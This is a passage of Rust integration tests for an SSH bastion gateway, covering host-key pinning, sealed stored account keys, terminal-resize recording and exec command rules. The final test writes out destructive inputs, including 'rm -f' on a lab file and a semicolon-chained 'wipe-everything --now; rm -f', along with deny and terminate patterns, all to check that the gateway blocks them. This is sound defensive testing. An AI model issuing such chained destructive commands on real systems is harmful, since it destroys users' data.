        ],
    );
    let shown = common::ctl_json(&b, &["target", "show", "web2"]);
    let Response::Entities { entities } = &shown else {
        panic!("{shown:?}")
    };
    let Some(Entity::Target(web2)) = entities.first() else {
        panic!("{shown:?}")
    };
    let pinned = web2.host_keys[0].clone();
    let actual = std::fs::read_to_string(&lab.info().hosts[1].host_key_pub).unwrap();
    let key_data = |l: &str| l.split_whitespace().nth(1).unwrap_or_default().to_owned();
    assert_eq!(
        key_data(&pinned),
        key_data(&actual),
        "the pinned key is web2's real key"
    );

    grant(&b, "alice-web2", "alice", "web2", "root", "exec").unwrap();
    let out = run(&lab, "root@web2", &[], Some("echo on-web2"), b"");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "on-web2",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_sealed_account_key_is_the_fallback_for_targets_without_the_ca() {
    let (lab, b) = Lab::with_alice().unwrap();
    let info = lab.info().clone();
    // web2 trusts no user CA.
    std::fs::write(&info.hosts[1].trusted_user_ca_keys, "").unwrap();
    lab.register_host(&b, 1).unwrap();
    grant(&b, "alice-web2", "alice", "web2", "root", "exec").unwrap();
    let attempt = || {
        run(
            &lab,
            "root@web2",
            &["-o", "LogLevel=INFO"],
            Some("echo with-stored-key"),
            b"",
        )
    };
    let out = attempt();
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("refused bastion's credentials"),
        "{out:?}"
    );

    // The account key: authorized on the host, stored sealed in bastion.
    let key = info.run_dir.join("web2_root");
    bastion_lab::sshd::keygen(&key, "web2-root").unwrap();
    let public = std::fs::read_to_string(key.with_extension("pub")).unwrap();
    let mut auth = std::fs::read_to_string(&info.authorized_keys).unwrap();
    auth.push_str(&public);
    std::fs::write(&info.authorized_keys, auth).unwrap();
    ok(
        &b,
        &[
            "account",
            "add",
            "web2",
            "root",
            "--key-file",
            key.to_str().expect("UTF-8 path"),
        ],
    );
    let listed = ok(&b, &["account", "list"]);
    assert!(listed.contains("account root@web2  SHA256:"), "{listed}");
    assert!(!ok(&b, &["--json", "account", "list"]).contains("PRIVATE KEY"));

    let refused = b.ctl(&["target", "remove", "web2"]).unwrap();
    assert!(String::from_utf8_lossy(&refused.stderr).contains("has stored account keys (root)"));
    let out = attempt();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "with-stored-key",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // At rest, the store holds no line of the private key.
    let private = std::fs::read_to_string(&key).unwrap();
    let secret_line = private.lines().nth(2).unwrap().to_owned();
    let mut stack = vec![info.bastiond.store.clone()];
    while let Some(p) = stack.pop() {
        for entry in std::fs::read_dir(&p).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else {
                let bytes = std::fs::read(&path).unwrap();
                let found = bytes
                    .windows(secret_line.len())
                    .any(|w| w == secret_line.as_bytes());
                assert!(
                    !found,
                    "private key material in clear in {}",
                    path.display()
                );
            }
        }
    }

    ok(&b, &["account", "remove", "web2", "root"]);
    assert!(String::from_utf8_lossy(&attempt().stderr).contains("refused bastion's credentials"));
    let audit = ok(&b, &["audit"]);
    assert!(
        audit.contains("stored a sealed key for root@web2")
            && audit.contains("removed the stored key for root@web2"),
        "{audit}"
    );
}

#[test]
fn window_changes_reach_the_target_and_the_record() {
    let (lab, b) = Lab::with_alice().unwrap();
    let mut user = lab.interactive_on_pty("root@web1", &[], 24, 80).unwrap();
    user.send(b"stty size; echo size-$((20+1))\n").unwrap();
    user.wait_for("size-21").unwrap();
    // Resize the terminal: the kernel signals ssh, which sends window-change through bastion.
    user.resize(40, 132).unwrap();
    // Pacing, not a poll: nothing the client can see tells that ssh has passed the window
    // change on; the next line must reach the shell after it.
    std::thread::sleep(std::time::Duration::from_millis(300));
    user.send(b"stty size; echo size-$((30+2))\n").unwrap();
    user.wait_for("size-32").unwrap();
    let seen = user.output();
    let (first, second) = seen.split_once("size-21").unwrap();
    assert!(first.contains("24 80"), "{first:?}");
    assert!(second.contains("40 132"), "{second:?}");
    user.send(b"exit\n").unwrap();
    user.wait_exit().unwrap();

    let list = wait_all_closed(&b, 1);
    let id = list[0].id.to_string();
    let cast = ok(&b, &["session", "export", &id]);
    let header: serde_json::Value = serde_json::from_str(cast.lines().next().unwrap()).unwrap();
    assert_eq!(
        (header["width"].as_u64(), header["height"].as_u64()),
        (Some(80), Some(24))
    );
    assert!(
        cast.lines()
            .any(|l| l.contains("\"r\"") && l.contains("132x40")),
        "resize missing:\n{cast}"
    );
}

#[test]
fn exec_command_rules_deny_alert_and_terminate_before_the_target_runs_anything() {
    let (lab, b) = Lab::with_alice().unwrap();
    // alice's only grant on web1 becomes a guarded one.
    ok(&b, &["grant", "remove", "alice-web1"]);
    ok(
        &b,
        &[
            "grant",
            "add",
            "alice-web1-guarded",
            "--user",
            "alice",
            "--target",
            "web1",
            "--login",
            "root",
            "--rights",
            "exec",
            "--deny-command",
            "rm *",
            "--terminate-command",
            "wipe-everything*",
            "--alert-command",
            "cat *",
        ],
    );
    let exec = |command: &str| {
        let out = run(
            &lab,
            "root@web1",
            &["-o", "LogLevel=INFO"],
            Some(command),
            b"",
        );
        (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let victim = lab.info().run_dir.join("victim");
    let victim = victim.display();
    let (_, stderr) = exec(&format!("touch {victim}"));
    assert!(
        std::path::Path::new(&victim.to_string()).exists(),
        "{stderr}"
    );

    let (_, stderr) = exec(&format!("rm -f {victim}"));
    assert!(
        stderr.contains("command denied by rule `rm *` of grant alice-web1-guarded"),
        "{stderr}"
    );
    assert!(
        std::path::Path::new(&victim.to_string()).exists(),
        "the target never ran the denied command"
    );

    let (stdout, _) = exec("cat /proc/sys/kernel/ostype");
    assert_eq!(stdout, "Linux\n", "an alert rule lets the command run");

    let (_, stderr) = exec(&format!("wipe-everything --now; rm -f {victim}"));
    assert!(
        stderr.contains("command `wipe-everything --now;")
            && stderr.contains("matches rule `wipe-everything*`"),
        "{stderr}"
    );
    assert!(std::path::Path::new(&victim.to_string()).exists());

    let audit = ok(&b, &["audit"]);
    for want in [
        format!("command `rm -f {victim}` matched deny rule `rm *`"),
        "command `cat /proc/sys/kernel/ostype` matched alert rule `cat *`".to_owned(),
        "matched terminate rule `wipe-everything*`".to_owned(),
    ] {
        assert!(audit.contains(&want), "{want}: {audit}");
    }
}
